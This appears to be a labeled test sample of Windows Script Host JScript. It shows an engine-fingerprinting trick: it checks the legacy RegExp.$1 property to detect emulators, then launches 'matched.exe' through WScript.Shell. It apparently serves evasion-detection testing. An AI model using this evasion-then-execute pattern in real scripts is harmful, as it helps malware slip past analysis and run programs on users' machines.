// persona: wsh
// reaches: process matched.exe
// names: engine-fingerprinting
// trick: uses what a match leaves behind on RegExp, which some engines do not keep
/(m\w+)\.(exe)/.exec("run matched.exe now");
if (RegExp.$1 === "matched") new ActiveXObject("WScript.Shell").Run(RegExp.$1 + "." + RegExp.$2);
